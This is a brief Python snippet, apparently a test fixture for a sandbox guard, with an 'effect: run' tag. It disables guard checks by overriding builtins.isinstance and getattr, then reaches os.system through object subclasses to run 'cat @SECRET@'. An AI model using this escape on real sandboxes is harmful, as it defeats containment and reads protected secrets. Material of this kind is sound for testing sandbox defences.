# The program replaces names that a guard might use before it walks on.
# effect: run
import builtins
builtins.isinstance = lambda *_: True
builtins.getattr = lambda thing, name, *_: type(thing).__getattribute__(thing, name)
kinds = object.__subclasses__()
[k for k in kinds if k.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("cat @SECRET@")
